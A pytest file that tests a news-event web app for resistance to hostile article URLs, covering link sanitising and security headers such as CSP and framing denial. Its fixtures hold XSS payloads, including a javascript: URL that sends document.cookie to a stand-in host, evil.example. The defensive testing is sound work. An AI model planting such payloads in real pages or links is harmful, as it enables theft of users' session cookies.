"""Hostile article URLs and framing: only http(s) URLs become links, and every
response carries the security headers."""

from __future__ import annotations

import json
import re

import pytest
from fastapi.testclient import TestClient

from api_world import TOKEN
from detente.api import create_app
from detente.api.workers import InProcess
from detente.ingest import iter_articles
from detente.model import Article, EventDate
from detente.nlp import pipeline
from detente.pipeline import ingest_articles
from detente.store import Store
from detente.web.render import web_link
from store_helpers import event_in

HTML = {"Accept": "text/html"}

# Written for these tests: one expulsion in each article, each from a different reader.
SENTENCES = {
    "api": "Latvia expelled a Belarusian diplomat on 4 March 2024, the ministry in Riga said.",
    "jsonl": "Lithuania expelled a Belarusian diplomat on 5 March 2024, officials said.",
    "feed": "Poland expelled a Belarusian diplomat on 6 March 2024, the agency reported.",
}
ACTING = {"api": "LVA", "jsonl": "LTU", "feed": "POL"}

JSONL = (
    json.dumps(
        {
            "text": SENTENCES["jsonl"],
            "title": "Vilnius expels envoy",
            "published": "2024-03-05",
            "url": " JaVaScRiPt:alert(document.cookie)",
        }
    )
    + "\n"
)
FEED = f"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Wire</title><link>https://wire.example.net/</link>
<item><title>Warsaw expels envoy</title><link>javascript:alert(1)</link>
<pubDate>Wed, 06 Mar 2024 10:00:00 GMT</pubDate>
<description>{SENTENCES["feed"]}</description></item></channel></rss>
"""


def one_expulsion(article: Article):
    """A stand-in extraction: the one expulsion each test article reports."""
    for reader, sentence in SENTENCES.items():
        if sentence in article.text:
            evidence = sentence.split(",")[0]
            day = EventDate(f"2024-03-0{4 + list(SENTENCES).index(reader)}", "day")
            return [event_in(article, "EXPEL_DIPLOMAT", ACTING[reader], "BLR", evidence, day)]
    return []


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    (folder / "wire.jsonl").write_text(JSONL, encoding="utf-8")
    (folder / "wire.rss").write_text(FEED, encoding="utf-8")
    patch = pytest.MonkeyPatch()
    patch.setattr(pipeline, "extract_article", one_expulsion)
    with Store(f"sqlite:///{folder / 'hostile.db'}") as store:
        read = iter_articles([folder / "wire.jsonl", folder / "wire.rss"])
        summary = ingest_articles(store, read, extract=one_expulsion)
        assert summary.events_new == 2, summary
        app = create_app(store, token=TOKEN, extraction=InProcess())
        with TestClient(app, headers=HTML) as test_client:
            posted = test_client.post(
                "/api/articles",
                json={
                    "text": SENTENCES["api"],
                    "published": "2024-03-04",
                    "url": "javascript:fetch('//evil.example/'+document.cookie)",
                },
                headers={"Authorization": f"Bearer {TOKEN}"},
            )
            assert posted.status_code == 200, posted.text
            yield test_client
    patch.undo()


def hrefs(page: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', page)


@pytest.mark.parametrize(
    "url", ["/events", "/countries/BLR", "/events/1", "/events/2", "/events/3", "/"]
)
def test_no_page_links_a_javascript_url(client, url):
    response = client.get(url)
    assert response.status_code == 200
    assert "Belarusian diplomat" in response.text
    assert not [href for href in hrefs(response.text) if "script:" in href.lower()]


def test_every_hostile_url_is_stored_as_given_and_shown_as_text(client):
    stored = {e["source"]: e["url"] for e in client.get("/api/events").json()["events"]}
    assert stored == {
        "LVA": "javascript:fetch('//evil.example/'+document.cookie)",
        "LTU": " JaVaScRiPt:alert(document.cookie)",
        "POL": "javascript:alert(1)",
    }
    page = client.get("/events").text
    for reader in SENTENCES:
        assert SENTENCES[reader].split(",")[0] in page


@pytest.mark.parametrize(
    ("url", "link"),
    [
        ("https://news.example.org/a?b=1", "https://news.example.org/a?b=1"),
        ("  http://news.example.org/  ", "http://news.example.org/"),
        ("javascript:alert(1)", None),
        (" JaVaScRiPt:alert(1)", None),
        ("\tjavascript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox", None),
        ("//evil.example/x", None),
        ("https:alert(1)", None),
        ("http://[::1", None),
        ("", None),
        (None, None),
    ],
)
def test_only_http_and_https_urls_become_links(url, link):
    assert web_link(url) == link


@pytest.mark.parametrize(
    "url",
    [
        "/",
        "/events",
        "/events/1",
        "/countries/BLR",
        "/relations/LVA/BLR",
        "/ingest",
        "/docs",
        "/api/events",
        "/openapi.json",
        "/static/app.css",
        "/nowhere",
    ],
)
def test_every_response_forbids_framing_sniffing_and_foreign_scripts(client, url):
    headers = client.get(url).headers
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["X-Frame-Options"] == "DENY"
    policy = dict(
        part.strip().split(" ", 1) for part in headers["Content-Security-Policy"].split(";")
    )
    assert policy["frame-ancestors"] == "'none'"
    assert policy["default-src"] == "'self'"
    assert policy["script-src"].startswith("'self'")
    assert "unsafe-inline" not in policy["script-src"]


def test_the_docs_page_may_run_exactly_its_own_inline_script(client):
    page = client.get("/docs")
    script_src = re.search(r"script-src ([^;]*)", page.headers["Content-Security-Policy"])
    allowed = script_src.group(1).split()
    assert allowed[0] == "'self'" and len(allowed) == 2 and allowed[1].startswith("'sha256-")
    other = client.get("/events").headers["Content-Security-Policy"]
    assert "sha256" not in other
